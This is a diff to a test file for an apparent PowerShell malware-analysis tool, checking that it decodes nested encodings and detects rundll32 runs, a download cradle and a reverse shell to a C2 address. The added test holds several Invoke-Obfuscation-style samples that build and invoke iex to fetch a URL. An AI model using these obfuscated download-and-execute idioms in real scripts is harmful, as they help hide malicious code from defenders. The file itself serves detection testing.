@@ -118,7 +118,7 @@ test('nine nested -enc layers are peeled one child per layer down to the URL', a
   assert.deepEqual(layers.map((a) => a.depth), [1, 2, 3, 4, 5, 6, 7, 8, 9]);
   assertPayload(run, URL_1);
   assert.ok(ids(run).has('cmdline.run.rundll32'), 'the run step, through the command-line analyzer');
-  assert.ok(run.iocs.some((i) => i.type === 'command' && /rundll32 .*n\.dll[ ,"]+Start/i.test(i.value)), `run.iocs.some((i) => i.type === 'command' && /rundll32 .*n\.dll",?Start|rundll32 .*n\.dll,Start/i.te`);
+  assert.ok(run.iocs.some((i) => i.type === 'command' && /rundll32 .*n\.dll[ ,"]+Start/i.test(i.value)), 'the rundll32 run step as a command IOC');
   assert.ok(Object.values(run.labels).includes('rundll32 ,Start'), `Object.values(run.labels).includes('rundll32 ,Start')`);
 });
 
@@ -227,4 +227,19 @@ test('script cmdlets with attributes, redirections inside pipelines, and a rever
   assert.ok(ids(run).has('powershell.exec.download-cradle'), 'the function result is executed');
   assert.ok(ids(run).has('powershell.c2.reverse-shell'), 'reverse shell');
   assert.ok(run.iocs.some((i) => i.type === 'ip' && i.value === '203.0.113.9' && i.role === 'c2' && i.port === 4444), 'C2 address with port');
+});
+
+test('Invoke-Obfuscation idioms: variable-name iex, [string]::Join of char codes, octal, ToString()[…]', async () => {
+  const inner = `iwr '${URL_1}'`;
+  const octal = Array.from(inner, (c) => c.charCodeAt(0).toString(8)).join('k');
+  const samples = [
+    `(GV '*mdr*').NaMe[3,11,2]-JoIn'' | % { & $_ "${inner}" }`,
+    `& ((Get-Variable '*MDR*').Name[3,11,2]-join'') "${inner}"`,
+    `& ($VerbosePreference.ToString()[1,3]+'X'-JOIN'') "${inner}"`,
+    `.( [StRINg]::JoIN('', [char[]](105, 101, 120))) ([String]::Join('', ('${octal}' -split 'k' | ForEach-Object { [char]([convert]::ToInt16(($_.ToString()), 8)) })))`,
+  ];
+  for (const script of samples) {
+    const run = await analyze(script);
+    assertPayload(run, URL_1);
+  }
 });
